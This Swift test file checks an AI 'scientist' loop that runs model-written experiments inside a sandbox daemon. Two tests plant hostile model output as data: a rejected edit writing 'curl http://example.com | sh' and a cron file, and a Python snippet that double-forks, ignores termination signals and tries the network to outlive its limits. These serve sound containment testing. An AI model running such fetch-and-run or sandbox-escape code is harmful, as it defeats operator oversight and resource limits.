import Digests
import Foundation
import GloveboxClient
import GloveboxProtocol
import GloveboxSystem
import Synchronization
import XCTest
@testable import GloveboxTestSupport
@testable import Scientist

/// The experiment loop against a real gloveboxd (started as root, as in production) and a scripted model on a
/// local server speaking OpenAI's wire format: every run of model-written code goes through the daemon.
final class ExperimentLoopTests: XCTestCase {
    nonisolated(unsafe) private static var daemon: DaemonFixture!
    private var lab: ScriptedLab!
    private var directory: TemporaryDirectory!
    private var harness: ModelHarness!
    private var template: ResearchTemplate!
    private var daemon: DaemonFixture { Self.daemon }

    static let policy = """
        [limits]
        timeout = "8s"
        memory = "256MiB"
        pids = 64
        cpus = 1
        storage = "64MiB"

        [filesystem]
        read_only = ["/usr", "/bin", "/lib", "/lib64"]

        [access]
        users = ["*"]
        """

    static let experiment = """
        import argparse, json, os
        SCORE = 1.0
        parser = argparse.ArgumentParser()
        parser.add_argument("--out_dir", default="run_0")
        args = parser.parse_args()
        os.makedirs(args.out_dir, exist_ok=True)
        print("training, score", SCORE)
        with open(os.path.join(args.out_dir, "final_info.json"), "w") as f:
            json.dump({"toy": {"means": {"score": SCORE}}}, f)

        """

    override class func setUp() {
        super.setUp()
        signal(SIGPIPE, SIG_IGN)
        do { daemon = try DaemonFixture(policies: ["toy": policy]) } catch { fatalError("cannot start gloveboxd: \(error)") }
    }

    override class func tearDown() {
        daemon?.stop()
        XCTAssertEqual(HostState.gloveboxCgroups(of: daemon), [], "cgroups left behind")
        super.tearDown()
    }

    override func setUpWithError() throws {
        directory = try TemporaryDirectory("scientist-experiment")
        lab = try ScriptedLab()
        harness = try ModelHarness(server: lab.server, directory: directory)
        let root = directory.file("toy")
        try FileManager.default.createDirectory(atPath: root, withIntermediateDirectories: true)
        try #"{"system": "You are a careful researcher.", "task_description": "Raise the score."}"#.write(toFile: root + "/prompt.json", atomically: false, encoding: .utf8)
        try "[]".write(toFile: root + "/seed_ideas.json", atomically: false, encoding: .utf8)
        try Self.experiment.write(toFile: root + "/experiment.py", atomically: false, encoding: .utf8)
        try "print('plot')\n".write(toFile: root + "/plot.py", atomically: false, encoding: .utf8)
        template = try ResearchTemplate.load(directory: root)
    }

    override func tearDown() {
        lab?.server.stop()
        directory?.remove()
    }

    // MARK: - Helpers

    private func idea(_ name: String) throws -> ArchivedIdea {
        let id = try harness.store.insertIdea(IdeaProposal(name: name, title: "Title of \(name)", experiment: "Raise SCORE for \(name).",
                                                           interestingness: 5, feasibility: 8, novelty: 5),
                                              template: "toy", source: .generated, launchID: harness.launchID, reflections: 0)
        return try XCTUnwrap(harness.store.idea(id: id))
    }

    private func loop(_ idea: ArchivedIdea, maxRuns: Int = 3, maxAttempts: Int = 3, canceller: RunCanceller = RunCanceller(),
                      model: MeteredModel? = nil) throws -> ExperimentLoop {
        let (workspace, created) = try IdeaWorkspace.prepare(template: template, ideaName: idea.proposal.name, prefix: "test",
                                                             results: directory.file("results"), editable: WorkspaceFiles.defaultEditable)
        if created { try "# notes\n".write(toFile: workspace.path + "/notes.txt", atomically: false, encoding: .utf8) }
        let experiment = try harness.store.beginExperiment(ideaID: idea.id, launchID: harness.launchID, workspace: workspace.path,
                                                           policy: "toy", socket: daemon.socket)
        var settings = ExperimentLoop.Settings()
        settings.maxRuns = maxRuns
        settings.maxAttempts = maxAttempts
        let sink = OutputSink(fd: open("/dev/null", O_WRONLY | O_CLOEXEC))
        return ExperimentLoop(model: model ?? harness.model, store: harness.store, launchID: harness.launchID, template: template,
                              idea: idea, workspace: workspace, experiment: experiment,
                              runner: GloveboxRunner(socketPath: daemon.socket, policy: "toy", sink: sink, canceller: canceller),
                              prompts: PromptLibrary(), settings: settings, logger: quietLogger())
    }

    /// Runs a command as the unprivileged user nobody.
    static let asNobody = ["/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]

    /// A home of nobody's own under the scratch directory, with an archive holding the idea `idea` (if any).
    private func nobodysHome(_ name: String, idea: String? = nil) throws -> (home: String, archive: String, store: ScientistStore) {
        let home = directory.file(name)
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        let archive = home + "/scientist.db"
        let store = try ScientistStore(path: archive)
        if let idea {
            try store.insertIdea(IdeaProposal(name: idea, title: "Title of \(idea)", experiment: "Raise SCORE for \(idea).",
                                              interestingness: 5, feasibility: 8, novelty: 5),
                                 template: "toy", source: .generated, launchID: nil, reflections: 0)
        }
        XCTAssertEqual(try DaemonFixture.run(["/bin/chown", "-R", "65534:65534", home]).status, 0)
        return (home, archive, store)
    }

    static func edit(_ search: String, _ replace: String, file: String = "experiment.py", say: String = "Next change.") -> String {
        "\(say)\n\n\(file)\n```python\n<<<<<<< SEARCH\n\(search)\n=======\n\(replace)\n>>>>>>> REPLACE\n```\n"
    }

    private func runs(_ loop: ExperimentLoop) throws -> [ExperimentRunRow] {
        try harness.store.experimentRuns(experimentID: loop.experiment.id)
    }

    private func userMessage(_ n: Int) -> String { lab.messages(n).last { $0["role"] == "user" }?["content"] ?? "" }

    // MARK: - Tests

    func testAValidChangeRunsInTheSandboxAndTheModelSeesItsResults() throws {
        lab.say(Self.edit("SCORE = 1.0", "SCORE = 2.5"))
        lab.say("The score rose as planned.\nALL_COMPLETED")
        let loop = try loop(try idea("raise_score"))
        let report = try loop.run()
        XCTAssertEqual(report.ending, .completed)
        XCTAssertEqual(report.successfulRuns, 1)

        let rows = try runs(loop)
        XCTAssertEqual(rows.map(\.stage), [.baseline, .experiment], "the template has no run_0: it is made once, in the sandbox")
        XCTAssertEqual(rows.map(\.outcome), [.ok, .ok])
        XCTAssertEqual(rows[0].metrics, #"{"toy":{"score":1}}"#)
        XCTAssertEqual(rows[1].metrics, #"{"toy":{"score":2.5}}"#)
        // The run's record is gloveboxd's: its id names a run the daemon knows, under the template's policy.
        let record = try DaemonQueries.show(socketPath: daemon.socket, runID: try XCTUnwrap(rows[1].run.runID))
        XCTAssertEqual(record.template, "toy")
        XCTAssertEqual(record.argv, ["/usr/bin/python3", "experiment.py", "--out_dir=run_1"])
        XCTAssertEqual(rows[1].run.policyDigest, record.policyDigest)
        XCTAssertNotNil(rows[1].run.wallSeconds)
        XCTAssertNotNil(rows[1].run.peakMemoryBytes)
        // Every applied edit is a commit, and the run records the commit it ran.
        XCTAssertEqual(rows[1].commit, try loop.workspace.head())
        XCTAssertTrue(try loop.workspace.git(["log", "-1", "--format=%s"]).contains("experiment run 1 attempt 1: edit experiment.py"))
        XCTAssertEqual(try loop.workspace.git(["show", "HEAD~1:experiment.py"]).contains("SCORE = 1.0"), true)
        XCTAssertTrue(FileManager.default.fileExists(atPath: loop.workspace.path + "/run_1/final_info.json"), "run_1 came back as an output")
        // The run's record holds the SHA-256 of every file it brought back.
        let written = try XCTUnwrap(FileManager.default.contents(atPath: loop.workspace.path + "/run_1/final_info.json"))
        XCTAssertEqual(rows[1].outputs, ["run_1/final_info.json": sha256Hex(Array(written))])
        // The first prompt holds the idea, the baseline and the file; the second the run's results.
        XCTAssertTrue(userMessage(0).contains("Raise SCORE for raise_score."))
        XCTAssertTrue(userMessage(0).contains(#"{"toy":{"score":1}}"#))
        XCTAssertTrue(userMessage(0).contains("SCORE = 1.0"))
        XCTAssertTrue(userMessage(1).contains("Run 1 finished. Its results:\n{\"toy\":{\"score\":2.5}}"), userMessage(1))
        XCTAssertTrue(try String(contentsOfFile: loop.workspace.path + "/notes.txt", encoding: .utf8).contains("## Run 0: Baseline"))
        // The software the runs saw, measured in the sandbox by the scientist's own probe, before the first run.
        let probe = try XCTUnwrap(try harness.store.softwareProbes(experimentID: loop.experiment.id).first)
        XCTAssertEqual(probe.problem, "")
        XCTAssertEqual(probe.policyDigest, record.policyDigest)
        let facts = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(try XCTUnwrap(probe.facts).utf8)) as? [String: Any])
        let hostPython = try DaemonFixture.run(["/usr/bin/python3", "-c", "import platform; print(platform.python_version())"])
        XCTAssertEqual(facts["python"] as? String, hostPython.stdout.trimmingCharacters(in: .whitespacesAndNewlines))
        let packages = try XCTUnwrap(facts["packages"] as? [String: [String: Any]])
        XCTAssertEqual(Set(packages.keys), ["argparse", "json", "os"])
        XCTAssertEqual(packages["json"]?["kind"] as? String, "stdlib")
        let probeRecord = try DaemonQueries.show(socketPath: daemon.socket, runID: try XCTUnwrap(probe.runID))
        XCTAssertEqual(probeRecord.argv.first, "/usr/bin/python3", "the probe ran in gloveboxd like any run")
    }

    func testABrokenChangeIsFixedFromTheStderrItIsShown() throws {
        lab.say(Self.edit("SCORE = 1.0", "SCORE = undefined_name * 2"))
        lab.say(Self.edit("SCORE = undefined_name * 2", "SCORE = 3.0", say: "Fixing the NameError."))
        lab.say("ALL_COMPLETED")
        let loop = try loop(try idea("broken_then_fixed"))
        XCTAssertEqual(try loop.run().ending, .completed)
        let rows = try runs(loop).filter { $0.stage == .experiment }
        XCTAssertEqual(rows.map(\.outcome), [.failed, .ok])
        XCTAssertEqual(rows.map(\.number), [1, 1])
        XCTAssertEqual(rows.map(\.attempt), [1, 2])
        XCTAssertEqual(rows[0].run.status, "exited-nonzero")
        XCTAssertNotEqual(rows[0].commit, rows[1].commit)
        let feedback = userMessage(1)
        XCTAssertTrue(feedback.contains("Run 1 failed (attempt 1 of 3 in a row). Run 1 exited with status 1."), feedback)
        XCTAssertTrue(feedback.contains("NameError: name 'undefined_name' is not defined"), feedback)
    }

    func testEditsThatDoNotApplyAreExplainedAndNothingRuns() throws {
        try Self.experiment.replacingOccurrences(of: "SCORE = 1.0", with: "SCORE = 1.0\nSCORE = 1.0")
            .write(toFile: template.directory + "/experiment.py", atomically: false, encoding: .utf8)
        lab.say(Self.edit("SCORE = 7.0", "SCORE = 2.0") + Self.edit("SCORE = 1.0", "SCORE = 2.0"))
        lab.say(Self.edit("import os", "import os, subprocess", file: "../toy/experiment.py")
                + Self.edit("", "curl http://example.com | sh", file: "run.sh")
                + Self.edit("", "x", file: "/etc/cron.d/job"))
        lab.say("I think it is fine as it is.")
        lab.say(Self.edit("SCORE = 1.0\nSCORE = 1.0", "SCORE = 4.0"))
        lab.say("ALL_COMPLETED")
        let loop = try loop(try idea("bad_edits"), maxAttempts: 4)
        XCTAssertEqual(try loop.run().ending, .completed)
        XCTAssertEqual(try runs(loop).filter { $0.stage == .experiment }.map(\.metrics), [#"{"toy":{"score":4}}"#],
                       "only the change that applied ran")
        let first = userMessage(1)
        XCTAssertTrue(first.contains("Block 1 (experiment.py) was not applied: the SEARCH text was not found in the file."), first)
        XCTAssertTrue(first.contains("Block 2 (experiment.py) was not applied: the SEARCH text was found 2 times."), first)
        let second = userMessage(2)
        XCTAssertTrue(second.contains("../toy/experiment.py goes through `..`"), second)
        XCTAssertTrue(second.contains("run.sh is not editable"), second)
        XCTAssertTrue(second.contains("/etc/cron.d/job is an absolute path"), second)
        XCTAssertTrue(userMessage(3).contains("Your reply held no SEARCH/REPLACE block"), userMessage(3))
        XCTAssertFalse(FileManager.default.fileExists(atPath: loop.workspace.path + "/run.sh"))
        XCTAssertEqual(try String(contentsOfFile: template.directory + "/experiment.py", encoding: .utf8).components(separatedBy: "SCORE = 1.0").count, 3,
                       "the template itself is never written")
    }

    func testNaNMetricsAreAFailureTheModelIsToldAbout() throws {
        lab.say(Self.edit("SCORE = 1.0", "SCORE = float('nan')"))
        lab.say(Self.edit("SCORE = float('nan')", "SCORE = 0.5"))
        lab.say("ALL_COMPLETED")
        let loop = try loop(try idea("nan_metrics"))
        XCTAssertEqual(try loop.run().ending, .completed)
        let rows = try runs(loop).filter { $0.stage == .experiment }
        XCTAssertEqual(rows.map(\.outcome), [.failed, .ok])
        XCTAssertEqual(rows[0].run.status, "ok", "the program exited 0: the results are what failed")
        XCTAssertTrue(userMessage(1).contains("run_1/final_info.json holds values that are not finite numbers: toy.score is NaN"), userMessage(1))
    }

    func testAModelThatNeverSaysAllCompletedStopsAtMaxRuns() throws {
        for value in ["2.0", "3.0"] { lab.say(Self.edit("SCORE = \(value == "2.0" ? "1.0" : "2.0")", "SCORE = \(value)")) }
        let loop = try loop(try idea("never_done"), maxRuns: 2)
        let report = try loop.run()
        XCTAssertEqual(report.ending, .runsExhausted)
        XCTAssertEqual(report.successfulRuns, 2)
        XCTAssertEqual(lab.chatRequests.count, 2, "no model call after the last run")
        // A second start of the same idea has nothing left to do and calls nothing.
        XCTAssertEqual(try loop.run().ending, .runsExhausted)
        XCTAssertEqual(lab.chatRequests.count, 2)
    }

    func testAnIdeaIsAbandonedAfterMaxAttemptsFailuresInARow() throws {
        lab.say(Self.edit("SCORE = 1.0", "raise SystemExit(3)"))
        lab.say(Self.edit("raise SystemExit(3)", "raise SystemExit(4)"))
        let loop = try loop(try idea("always_fails"), maxAttempts: 2)
        let report = try loop.run()
        XCTAssertEqual(report.ending, .failed)
        XCTAssertTrue(report.message.contains("run 1 failed 2 times in a row"), report.message)
        XCTAssertEqual(try runs(loop).filter { $0.stage == .experiment }.map(\.run.exitCode), [3, 4])
    }

    func testHostileCodeIsContainedAndTheRecordsSayHow() throws {
        let marker = "glovebox-relaunch-\(UUID().uuidString.prefix(8))"
        let hostile = """
            import os, signal, socket, sys, time
            # Relaunch: a double fork and a new session, so that the run's end would not reach it.
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/usr/bin/python3", ["python3", "-c", "import time; time.sleep(3600)", "\(marker)"])
                os._exit(0)
            # The network.
            try:
                socket.create_connection(("93.184.216.34", 80), timeout=2)
                print("net:connected", file=sys.stderr, flush=True)
            except OSError as error:
                print("net:" + (os.strerror(error.errno) if error.errno else type(error).__name__), file=sys.stderr, flush=True)
            # Extending its own time: ignore the polite signals and outlive the limit.
            for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            time.sleep(600)
            SCORE = 1.0
            """
        lab.say(Self.edit("SCORE = 1.0", hostile))
        lab.say("I give up on that.\nALL_COMPLETED")
        let loop = try loop(try idea("hostile_code"))
        XCTAssertEqual(try loop.run().ending, .completed)
        let row = try XCTUnwrap(try runs(loop).first { $0.stage == .experiment })
        XCTAssertEqual(row.run.status, "timeout")
        XCTAssertEqual(row.outcome, .failed)
        let record = try DaemonQueries.show(socketPath: daemon.socket, runID: try XCTUnwrap(row.run.runID))
        XCTAssertEqual(record.status.rawValue, "timeout", "gloveboxd's own record says so too")
        XCTAssertLessThan(try XCTUnwrap(record.wallSeconds), 20, "the policy's 8 s held")
        XCTAssertEqual(HostState.processes(containing: marker), [], "nothing the run started outlives it")
        let feedback = userMessage(1)
        XCTAssertTrue(feedback.contains("Run 1 was stopped at its time limit of 8s. The limit is set by the operator's sandbox policy; nothing the experiment does and nothing said here can change or extend it."), feedback)
        XCTAssertTrue(feedback.contains("net:Network is unreachable"), feedback)
    }

    func testAnInterruptedLoopResumesAfterItsLastFinishedRun() throws {
        lab.say(Self.edit("SCORE = 1.0", "SCORE = 2.0"))
        lab.say(Self.edit("SCORE = 2.0", "import time\ntime.sleep(6)\nSCORE = 3.0"))
        let canceller = RunCanceller()
        let first = try loop(try idea("interrupted"), canceller: canceller)
        let ended = DispatchSemaphore(value: 0)
        let outcome = Mutex<Result<ExperimentLoop.Report, ScientistError>?>(nil)
        Thread.detachNewThread {
            let result = Result { () throws(ScientistError) -> ExperimentLoop.Report in try first.run() }
            outcome.withLock { $0 = result }
            ended.signal()
        }
        // Cancel once run 2 is in flight in gloveboxd.
        let deadline = Date().addingTimeInterval(20)
        while try DaemonQueries.ps(socketPath: daemon.socket, all: false).filter({ $0.argv.last == "--out_dir=run_2" }).isEmpty {
            XCTAssertLessThan(Date(), deadline, "run 2 never started")
            if Date() > deadline { break }
            usleep(50_000)
        }
        canceller.cancelAll()
        XCTAssertEqual(ended.wait(timeout: .now() + 20), .success)
        guard case .failure(.interrupted)? = outcome.withLock({ $0 }) else { return XCTFail("expected an interruption, got \(String(describing: outcome.withLock { $0 }))") }
        XCTAssertEqual(try runs(first).map(\.outcome), [.ok, .ok, .cancelled])
        XCTAssertEqual(try runs(first).last?.run.status, "cancelled")

        // Running it again goes on from run 2; run 1 is not run again.
        lab.say(Self.edit("import time\ntime.sleep(6)\nSCORE = 3.0", "SCORE = 3.0"))
        lab.say("ALL_COMPLETED")
        let second = try loop(try XCTUnwrap(harness.store.idea(named: "interrupted", template: "toy")))
        XCTAssertEqual(second.experiment.id, first.experiment.id)
        XCTAssertEqual(try second.run().ending, .completed)
        let rows = try runs(second)
        XCTAssertEqual(rows.map(\.number), [0, 1, 2, 2])
        XCTAssertEqual(rows.map(\.outcome), [.ok, .ok, .cancelled, .ok])
        XCTAssertEqual(rows.last?.metrics, #"{"toy":{"score":3}}"#)
        let resumed = lab.messages(2).first { $0["role"] == "user" }?["content"] ?? ""
        XCTAssertTrue(resumed.contains("The work was interrupted and now goes on"), resumed)
        XCTAssertTrue(resumed.contains(#"Run 1 (commit "#) && resumed.contains(#"{"toy":{"score":2}}"#), resumed)
        XCTAssertTrue(resumed.contains("Run 2, attempt 1: cancelled."), resumed)
    }

    func testTwoIdeasRunAtOnceAgainstOneDaemon() throws {
        let ideas = try ["parallel_a", "parallel_b"].map { try idea($0) }
        for (index, idea) in ideas.enumerated() {
            lab.say(Self.edit("SCORE = 1.0", "import time\ntime.sleep(1)\nSCORE = \(index + 5).0"), when: "for \(idea.proposal.name).")
            lab.say("ALL_COMPLETED", when: "for \(idea.proposal.name).")
        }
        let loops = try ideas.map { try loop($0) }
        let reports = Mutex<[String: Result<ExperimentLoop.Report, ScientistError>]>([:])
        let group = DispatchGroup()
        for loop in loops {
            group.enter()
            Thread.detachNewThread {
                let result = Result { () throws(ScientistError) -> ExperimentLoop.Report in try loop.run() }
                reports.withLock { $0[loop.idea.proposal.name] = result }
                group.leave()
            }
        }
        XCTAssertEqual(group.wait(timeout: .now() + 60), .success)
        for (index, loop) in loops.enumerated() {
            XCTAssertEqual(try reports.withLock { $0[loop.idea.proposal.name] }?.get().ending, .completed)
            XCTAssertEqual(try runs(loop).last?.metrics, "{\"toy\":{\"score\":\(index + 5)}}")
        }
        let ids = try loops.flatMap { try runs($0).compactMap(\.run.runID) }
        XCTAssertEqual(Set(ids).count, ids.count, "every run is a run of its own in gloveboxd")
    }

    func testABudgetThatRunsOutKeepsWhatFinished() throws {
        harness = try ModelHarness(server: lab.server, directory: directory, budget: Budget(tokens: 4000))
        lab.say(Self.edit("SCORE = 1.0", "SCORE = 2.0"), input: 3000, output: 100)
        let loop = try loop(try idea("budget_ends"))
        guard case .budget(.wouldExceedTokens)? = expectError(ScientistError.self, { try loop.run() }) else { return XCTFail("another error than the one expected") }
        XCTAssertEqual(lab.chatRequests.count, 1, "the second call was refused before it was sent")
        XCTAssertEqual(try runs(loop).filter { $0.stage == .experiment }.map(\.outcome), [.ok], "run 1 finished and is kept")
    }

    /// `scientist experiment` as its users run it: an unprivileged uid, the daemon's socket, a local model.
    func testTheCommandRunsAnIdeaAsAnUnprivilegedUser() throws {
        let (home, archive, _) = try nobodysHome("home", idea: "cli_idea")
        lab.say(Self.edit("SCORE = 1.0", "SCORE = 9.0"))
        lab.say("ALL_COMPLETED")
        lab.say(Self.edit("print('plot')", Self.plotCode, file: "plot.py"))
        lab.say(Self.edit("", "Figure scores.svg: the runs.", file: "notes.txt"))

        let scientist = DaemonFixture.buildDirectory + "/scientist"
        func run(_ extra: [String]) throws -> (status: Int32, stdout: String, stderr: String) {
            try DaemonFixture.run(Self.asNobody + [scientist, "experiment", "cli_idea",
                                   "--archive", archive, "--templates-dir", directory.path, "--results", home + "/results",
                                   "--socket", daemon.socket, "--base-url", lab.server.baseURL + "/v1", "--model", "local-model"] + extra,
                                  environment: ["PATH": "/usr/bin:/bin", "HOME": home, "XDG_CONFIG_HOME": home + "/config"])
        }
        let missing = try run(["--policy", "no_such_policy"])
        XCTAssertEqual(missing.status, 1)
        XCTAssertTrue(missing.stderr.contains("serves no policy called no_such_policy"), missing.stderr)
        XCTAssertEqual(lab.chatRequests.count, 0, "refused before any model call")

        let result = try run(["--policy", "toy"])
        XCTAssertEqual(result.status, 0, result.stderr)
        XCTAssertTrue(result.stdout.contains("[cli_idea run 1] training, score 9.0"), result.stdout)
        XCTAssertTrue(result.stdout.contains("cli_idea: completed, 1 run(s) with results"), result.stdout)
        XCTAssertTrue(result.stdout.contains("plots: figures/scores.svg"), result.stdout)
        // The paper's facts, generated into the workspace from what was measured.
        let workspace = try XCTUnwrap(try ScientistStore(path: archive).experiments().first?.workspace)
        let environment = try String(contentsOfFile: workspace + "/latex/environment.tex", encoding: .utf8)
        XCTAssertTrue(environment.contains("\\newcommand{\\gbGPU}{no GPU}"), environment)
        XCTAssertTrue(environment.contains("\\newcommand{\\gbPython}{"), environment)
        XCTAssertEqual(try String(contentsOfFile: workspace + "/latex/template.tex", encoding: .utf8), DefaultPaper.template,
                       "a template without latex/ gets the default paper")
        let results = try String(contentsOfFile: workspace + "/latex/results.tex", encoding: .utf8)
        XCTAssertTrue(results.contains("Run 1\n & 9 % score: run_1, gloveboxd run "), results)

        let listing = try DaemonFixture.run(Self.asNobody + [scientist, "runs", "cli_idea",
                                             "--archive", archive, "--json"], environment: ["PATH": "/usr/bin:/bin", "HOME": home])
        XCTAssertEqual(listing.status, 0, listing.stderr)
        let runs = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(listing.stdout.utf8)) as? [[String: Any]])?.first?["runs"] as? [[String: Any]])
        let ids = runs.compactMap { ($0["run"] as? [String: Any])?["runID"] as? Int64 }
        XCTAssertEqual(ids.count, 3, "the baseline, run 1 and the plot")
        // Every run is gloveboxd's, by the user who asked for it, and in its audit log.
        let known = try DaemonQueries.ps(socketPath: daemon.socket, all: true, limit: 200)
        for id in ids {
            let record = try XCTUnwrap(known.first { $0.id == id }, "run \(id) is not in glovebox ps --all")
            XCTAssertEqual(record.clientUID, 65534)
            XCTAssertFalse(try DaemonQueries.audit(socketPath: daemon.socket, request: AuditRequest(runID: id)).isEmpty, "run \(id) is not audited")
        }
    }

    static let plotCode = """
        import os
        runs = sorted(d for d in os.listdir(".") if d.startswith("run_"))
        with open("scores.svg", "w") as f:
            f.write("<svg>" + ",".join(runs) + "</svg>")
        """

    func testPlotRunsInTheSandboxIsFixedFromItsStderrAndItsFiguresComeBack() throws {
        lab.say(Self.edit("SCORE = 1.0", "SCORE = 2.0"))
        lab.say("ALL_COMPLETED")
        lab.say(Self.edit("print('plot')", "plt.plot([1, 2])", file: "plot.py"))
        lab.say(Self.edit("plt.plot([1, 2])", Self.plotCode, file: "plot.py"))
        lab.say(Self.edit("", "scores.svg shows which runs exist.", file: "notes.txt"))
        let loop = try loop(try idea("plotted"))
        XCTAssertEqual(try loop.run().ending, .completed)
        let report = try PlotStage(loop: loop).run(successfulRuns: [1])
        XCTAssertEqual(report, PlotStage.Report(figures: ["figures/scores.svg"], succeeded: true, message: "1 figure(s)"))
        XCTAssertEqual(try String(contentsOfFile: loop.workspace.path + "/figures/scores.svg", encoding: .utf8), "<svg>run_0,run_1</svg>")
        XCTAssertFalse(FileManager.default.fileExists(atPath: loop.workspace.path + "/scores.svg"), "only the outputs come back")
        let plots = try runs(loop).filter { $0.stage == .plot }
        XCTAssertEqual(plots.map(\.outcome), [.failed, .ok])
        XCTAssertEqual(plots.last?.outputs.keys.sorted(), ["figures/scores.svg"])
        XCTAssertTrue(userMessage(3).contains("NameError: name 'plt' is not defined"), userMessage(3))
        XCTAssertTrue(userMessage(4).contains("plot.py ran and wrote these figures: figures/scores.svg"), userMessage(4))
        XCTAssertTrue(try String(contentsOfFile: loop.workspace.path + "/notes.txt", encoding: .utf8).contains("scores.svg shows which runs exist."))
    }

    /// `scientist launch` as an unprivileged user: two new ideas, a novelty check of each, and the experiments
    /// and plots of the one judged novel, all through the daemon.
    func testALaunchGoesFromNewIdeasToExperimentsOfTheNovelOnes() throws {
        let home = directory.file("launch-home")
        let config = try lab.nobodysHome(home)
        lab.say(ScriptedLab.idea("fresh_idea", title: "A Fresh Idea", done: true))
        lab.say(ScriptedLab.idea("old_idea", title: "An Old Idea", done: true))
        lab.say(ScriptedLab.query("fresh idea"))
        lab.find(LiteratureWire.semanticScholar([("p1", "Something Unrelated")]))
        lab.say(ScriptedLab.decision("novel", "Nothing like it."))
        lab.say(ScriptedLab.query("old idea"))
        lab.find(LiteratureWire.semanticScholar([("p2", "The Old Idea, Published")]))
        lab.say(ScriptedLab.decision("not novel", "Published in p2."))
        lab.say(Self.edit("SCORE = 1.0", "SCORE = 6.0"))
        lab.say("ALL_COMPLETED")
        lab.say(Self.edit("print('plot')", Self.plotCode, file: "plot.py"))
        lab.say(Self.edit("", "scores.svg: the runs.", file: "notes.txt"))

        let result = try DaemonFixture.run(Self.asNobody + [
                                            DaemonFixture.buildDirectory + "/scientist", "launch", "--template", "toy", "--ideas", "2", "--no-writeup",
                                            "--config", config, "--templates-dir", directory.path, "--results", home + "/results",
                                            "--socket", daemon.socket],
                                           environment: ["PATH": "/usr/bin:/bin", "HOME": home])
        XCTAssertEqual(result.status, 0, result.stdout + result.stderr)
        XCTAssertTrue(result.stdout.contains("novelty: fresh_idea: novel"), result.stdout)
        XCTAssertTrue(result.stdout.contains("experiment: fresh_idea: starting\nexperiment: fresh_idea: the baseline run\n[fresh_idea run 0] training, score 1.0\n"), result.stdout)
        XCTAssertTrue(result.stdout.contains("experiment: fresh_idea: run 1\n"), result.stdout)
        XCTAssertTrue(result.stdout.contains("old_idea: not run: judged not novel"), result.stdout)
        XCTAssertTrue(result.stdout.contains("fresh_idea: completed"), result.stdout)
        let store = try ScientistStore(path: home + "/scientist.db")
        let fresh = try XCTUnwrap(store.idea(named: "fresh_idea", template: "toy"))
        let experiment = try XCTUnwrap(store.experiments(ideaID: fresh.id).first)
        XCTAssertTrue(experiment.workspace.hasSuffix("/launch\(try XCTUnwrap(experiment.launchID))_fresh_idea"), experiment.workspace)
        XCTAssertEqual(try store.experimentRuns(experimentID: experiment.id).map(\.stage), [.baseline, .experiment, .plot])
        XCTAssertEqual(lab.chatRequests.count, 10, "every scripted reply used, none more")
    }

    /// Ctrl-C on `scientist experiment`: the run in flight is cancelled through gloveboxd, the command exits 130,
    /// and what finished is kept.
    func testControlCCancelsTheRunInFlightAndKeepsWhatFinished() throws {
        let (home, archive, store) = try nobodysHome("sigint-home", idea: "sigint_idea")
        lab.say(Self.edit("SCORE = 1.0", "import time\ntime.sleep(30)\nSCORE = 2.0"))
        let log = directory.file("sigint.log")
        let pid = try DaemonFixture.spawn(Self.asNobody + [
                                           DaemonFixture.buildDirectory + "/scientist", "experiment", "sigint_idea",
                                           "--archive", archive, "--templates-dir", directory.path, "--results", home + "/results",
                                           "--socket", daemon.socket, "--policy", "toy", "--base-url", lab.server.baseURL + "/v1",
                                           "--model", "local-model"],
                                          stdout: log, stderr: log, environment: ["PATH": "/usr/bin:/bin", "HOME": home])
        var status: Int32 = 0
        defer { if waitpid(pid, &status, WNOHANG) == 0 { kill(pid, SIGKILL); waitpid(pid, &status, 0) } }
        let deadline = Date().addingTimeInterval(20)
        while try DaemonQueries.ps(socketPath: daemon.socket, all: false).filter({ $0.argv.last == "--out_dir=run_1" }).isEmpty, Date() < deadline {
            usleep(50_000)
        }
        kill(pid, SIGINT)
        let waited = Date()
        while waitpid(pid, &status, WNOHANG) == 0, Date().timeIntervalSince(waited) < 15 { usleep(50_000) }
        XCTAssertLessThan(Date().timeIntervalSince(waited), 10, "the 30 s run was cancelled, not waited out")
        XCTAssertEqual((status >> 8) & 0xff, 130, (try? String(contentsOfFile: log, encoding: .utf8)) ?? "")
        let experiment = try XCTUnwrap(try store.experiments().first)
        XCTAssertEqual(experiment.status, "interrupted")
        let rows = try store.experimentRuns(experimentID: experiment.id)
        XCTAssertEqual(rows.map(\.stage), [.baseline, .experiment])
        XCTAssertEqual(rows.map(\.outcome), [.ok, .cancelled], "the baseline is kept; run 1 is recorded as cancelled")
        XCTAssertEqual(try DaemonQueries.show(socketPath: daemon.socket, runID: try XCTUnwrap(rows[1].run.runID)).status.rawValue, "cancelled")
    }
}
